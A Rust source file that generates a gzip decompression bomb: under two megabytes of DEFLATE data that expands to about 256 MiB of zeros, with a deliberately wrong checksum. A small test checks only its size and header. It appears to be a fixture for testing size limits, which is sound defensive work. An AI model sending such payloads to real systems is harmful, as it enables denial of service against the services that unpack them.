//! A gzip file that is small and unpacks to much: one zero, and then "the same again" as often as it takes.

/// How often the longest repetition that there is, 258 bytes, stands in it.
const REPETITIONS: usize = (256 << 20) / 258;

/// The file, under two megabytes. Its checksum is wrong: who finds that out has unpacked it.
pub(crate) fn bomb() -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], next: 0, count: 0 };
    // The last block, with the codes that every unpacker knows.
    bits.put(0b1, 1);
    bits.put(0b01, 2);
    // The byte zero is 00110000; the length 258 is 11000101, and the distance 1 is 00000. Codes begin with their highest bit.
    bits.put(0b0000_1100, 8);
    for _ in 0..REPETITIONS {
        bits.put(0b1010_0011, 8);
        bits.put(0, 5);
    }
    // The end of the block.
    bits.put(0, 7);
    bits.put(0, 7);
    bits.bytes.extend([0; 8]);
    bits.bytes
}

/// Fills bytes from their lowest bit on.
struct Bits {
    bytes: Vec<u8>,
    next: u8,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for at in 0..count {
            self.next |= ((value >> at & 1) as u8) << self.count;
            self.count += 1;
            if self.count == 8 {
                self.bytes.push(std::mem::take(&mut self.next));
                self.count = 0;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small() {
        let bomb = bomb();
        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]) && bomb.len() < 2 << 20, "{}", bomb.len());
    }
}
